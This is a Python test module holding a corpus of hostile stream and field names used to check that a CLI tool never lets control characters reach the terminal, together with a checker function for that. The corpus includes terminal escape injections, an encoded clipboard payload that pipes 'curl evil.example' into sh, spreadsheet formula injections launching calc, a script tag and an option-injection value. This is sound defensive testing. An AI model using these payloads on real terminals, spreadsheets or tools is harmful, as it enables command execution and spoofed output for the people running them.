"""The hostile corpus: one list of names and values that every display surface must survive.

Each entry is used in every role at once in the datasets of ``tests/hostile`` (stream,
group, consumer, field name, field value, DLQ reason, and the DLQ key ``<name>:dlq``):
terminal controls (CSI, OSC 0/8/52 ended by BEL or ST, C1 as characters and as raw bytes),
Rich/Textual markup, HTML, spreadsheet formulas, an option-like name, line breaks, a
backslash that must round-trip, the empty name, and one 64 KiB name.

What a surface may never emit because of them (:func:`unsafe_chars`): ESC (0x1b), a C1
control (U+0080-U+009F, or a raw byte 0x80-0x9f that is not part of UTF-8), or any other
non-printable character (bidi overrides, zero-width controls, line separators).
"""

from __future__ import annotations

import re
from dataclasses import dataclass


@dataclass(frozen=True)
class Hostile:
    key: str  # the test id
    raw: bytes
    big: bool = False

    def __repr__(self) -> str:
        return self.key


CORPUS: tuple[Hostile, ...] = (
    Hostile("csi", b"csi\x1b[2J\x1b[1;1H\x1b[31mred"),
    Hostile("osc0-bel", b"\x1b]0;owned title\x07t"),
    Hostile("osc8-st", b"\x1b]8;;http://evil.example/\x1b\\link\x1b]8;;\x1b\\"),
    Hostile("osc52-st", b"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x1b\\"),
    Hostile("osc52-bel", b"\x1b]52;c;ZWNobyBvd25lZA==\x07"),
    Hostile("c1-chars", "c1\u009b2J\u009d0;t\u009c\u0085".encode()),
    Hostile("c1-bytes", b"raw\x9b2J\x9d0;t\x9c"),  # not UTF-8: 8-bit CSI / OSC / ST
    Hostile("bidi", "bidi\u202eexe.txt\u2066x\u2069\u200b\u2028\ufeff".encode()),
    Hostile("markup-close", b"g[/]"),
    Hostile("markup-link", b"[link=http://evil.example/]g[/link]"),
    Hostile("markup-click", b"[@click=app.quit]q[/]"),
    Hostile("markup-var", b"[$accent]v[/][b]"),
    Hostile("emoji-code", b":warning:x"),
    Hostile("html", b"<script>alert(1)</script>"),
    Hostile("formula-eq", b'=HYPERLINK("http://evil.example/","x")'),
    Hostile("formula-plus", b"+cmd|' /C calc'!A0"),
    Hostile("formula-minus", b"-2+3+cmd"),
    Hostile("formula-at", b"@SUM(1+1)"),
    Hostile("option", b"--url=redis://evil.example:6379"),
    Hostile("newline", b"n1\nerror: fake\r\tx"),
    Hostile("backslash", b"back\\x1b\\"),
    Hostile("empty", b""),
    Hostile("big", b"\x1b]0;big\x07" + b"B" * 65_536, big=True),
)
SMALL = tuple(h for h in CORPUS if not h.big)
BIG = next(h for h in CORPUS if h.big)
BY_KEY = {h.key: h for h in CORPUS}

# pelctl's own colours on a forced terminal (SGR only): removed before looking for data.
SGR = re.compile(rb"\x1b\[[0-9;]*m")


def unsafe_chars(output: bytes | str, *, terminal: bool = False, allow: str = "\n") -> list[str]:
    """What in ``output`` could reach a terminal as a control: [] when it is safe.

    Bytes must be valid UTF-8 (a raw 0x9b is an 8-bit CSI on some terminals). ``terminal``:
    the output comes from a forced terminal, whose SGR colour codes are pelctl's own (the
    corpus carries other sequences, so a leak is still seen). ``allow``: the layout
    characters of the format (line breaks; tabs in TSV).
    """
    data = output if isinstance(output, bytes) else output.encode("utf-8", "surrogateescape")
    if terminal:
        data = SGR.sub(b"", data)
    try:
        text = data.decode("utf-8")
    except UnicodeDecodeError as err:
        return [f"invalid UTF-8 at {err.start}: {data[err.start : err.start + 8]!r}"]
    bad = sorted({ch for ch in text if not ch.isprintable() and ch not in allow})
    return [f"U+{ord(ch):04X}" for ch in bad]


def assert_safe(
    output: bytes | str, what: str = "", *, terminal: bool = False, allow: str = "\n"
) -> None:
    bad = unsafe_chars(output, terminal=terminal, allow=allow)
    assert not bad, f"{what}: control characters from data reached the output: {bad}"
